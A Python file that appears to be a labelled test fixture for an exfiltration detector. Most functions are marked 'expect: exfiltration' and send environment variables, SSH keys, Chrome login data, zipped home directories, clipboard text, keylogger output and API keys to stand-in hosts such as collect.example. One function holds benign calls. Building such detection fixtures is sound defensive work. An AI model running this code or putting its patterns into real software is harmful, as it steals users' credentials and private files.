import getpass
import hashlib
import json
import os
import platform
import shutil
import smtplib
import socket
import subprocess
import urllib.request
import zipfile
from email.message import EmailMessage
from pathlib import Path

import httpx
import pyperclip
import requests
from pynput import keyboard


def whole():
    data = json.dumps({key: value for key, value in os.environ.items()}).encode()
    request = urllib.request.Request("https://collect.example/e", data=data)  # expect: exfiltration
    urllib.request.urlopen(request)


def store():
    key = (Path.home() / ".ssh" / "id_ed25519").read_text()
    requests.post("https://collect.example/k", data={"k": key})  # expect: exfiltration


def browser():
    source = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
    shutil.copy(source, "/tmp/ld")
    requests.post("https://collect.example/b", files={"f": open("/tmp/ld", "rb")})  # expect: exfiltration


def home():
    archive = zipfile.ZipFile("/tmp/o.zip", "w")
    for root, _, files in os.walk(os.path.expanduser("~")):
        for name in files:
            archive.write(os.path.join(root, name))
    archive.close()
    requests.post("https://collect.example/z", files={"f": open("/tmp/o.zip", "rb")})  # expect: exfiltration


def upload(connection, data):
    connection.sendall(data)  # expect: exfiltration


def raw():
    with socket.socket() as connection:
        connection.connect(("192.0.2.9", 4444))
        upload(connection, str(os.environ).encode())


def name():
    socket.gethostbyname(f"{getpass.getuser()}.{socket.gethostname()}.x.collect.example")  # expect: exfiltration


def mail():
    message = EmailMessage()
    message.set_content(str(dict(os.environ)))
    server = smtplib.SMTP("mail.collect.example", 25)
    server.send_message(message)  # expect: exfiltration


typed = []


def on_press(key):
    typed.append(str(key))
    requests.post("https://collect.example/c", json=typed)  # expect: exfiltration


def keys():
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()


def program():
    who = subprocess.check_output(["whoami"]).decode() + subprocess.getoutput("hostname")
    requests.get("https://collect.example/?d=" + who)  # expect: exfiltration


def copied():
    httpx.post("https://collect.example/p", content=pyperclip.paste())  # expect: exfiltration


def other():
    httpx.post("https://collect.example/", json={"k": os.getenv("OPENAI_API_KEY")})  # expect: exfiltration


def honest():
    subprocess.run(["git", "status"], env={**os.environ, "LANG": "C"})
    token = os.environ["NOTES_TOKEN"]
    agent = f"notes/1.0 ({platform.system()} {platform.release()})"
    ident = hashlib.sha256(socket.gethostname().encode()).hexdigest()
    requests.get("https://notes.example/", headers={"Authorization": token, "User-Agent": agent, "X-Id": ident})
    requests.get("https://api.openai.com/v1/models", headers={"Authorization": os.environ["OPENAI_API_KEY"]})
